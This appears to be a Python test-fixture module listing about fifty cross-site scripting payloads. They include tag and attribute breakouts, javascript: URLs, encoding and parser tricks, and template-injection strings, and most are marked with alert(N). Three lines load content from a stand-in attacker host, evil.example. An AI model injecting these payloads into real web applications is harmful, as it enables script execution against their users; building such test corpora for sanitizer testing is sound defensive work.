"""A corpus of cross-site scripting payloads: markup, attribute and script-context breakouts,
URL schemes, encodings, parser quirks and template syntax.

Every payload that could run calls alert(N) (or loads an outside URL), so a real browser reports
it through a dialog or a CSP violation. URN_PAYLOADS have no whitespace: a URN path can't hold any.
"""

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '"><script>alert(4)</script>',
    "'><img src=x onerror=alert(5)>",
    "</textarea><script>alert(6)</script>",
    "</title><script>alert(7)</script>",
    '<iframe src="javascript:alert(8)"></iframe>',
    "javascript:alert(9)",
    '<a href="javascript:alert(10)" id="xss-link">click me</a>',
    "<body onload=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "';alert(16);//",
    '";alert(17);//',
    "</script><script>alert(18)</script>",
    "{{7*7}}{{constructor.constructor('alert(19)')()}}",
    "${alert(20)}{% raw %}{{ config }}",
    '<object data="javascript:alert(21)"></object>',
    '<embed src="javascript:alert(22)">',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(24)">',
    '<form action="javascript:alert(25)"><button id="xss-button">go</button></form>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;script&gt;alert(28)&lt;/script&gt;",
    "%3Cscript%3Ealert(29)%3C%2Fscript%3E",
    "<scr<script>ipt>alert(30)</scr</script>ipt>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(31)">',
    "<svg><script>alert&#40;32&#41;</script></svg>",
    "\\u003cscript\\u003ealert(33)\\u003c/script\\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(34)>">',
    '<div style="background:url(javascript:alert(35))">styled</div>',
    "<x onpointerover=alert(36)>hover me</x>",
    '" onmouseover="alert(37)" x="',
    "' autofocus onfocus='alert(38)' x='",
    "@contact.name <script>alert(39)</script> @fields.city",
    "\\x3cscript\\x3ealert(40)\\x3c/script\\x3e",
    "\u202e<img src=x onerror=alert(41)>\u202c",
    "<img srcset=',,,,x onerror=alert(42)'>",
    "<template><img src=x onerror=alert(43)></template><slot onclick=alert(43)>",
    "<svg><animate onbegin=alert(44) attributeName=x dur=1s>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(45)&lt;/script&gt;'></iframe>",
    '<a href="&#14; javascript:alert(46)">x</a><a href="jav&#x09;ascript:alert(46)">y</a>',
    "<img src=x onerror=alert`47`>",
    "data:text/html,<script>alert(48)</script>",
]

# Payloads usable as a URN path (no whitespace allowed there).
URN_PAYLOADS: list[str] = [p for p in PAYLOADS if not any(ch.isspace() for ch in p)]

assert len(PAYLOADS) >= 30
assert len(set(PAYLOADS)) == len(PAYLOADS)
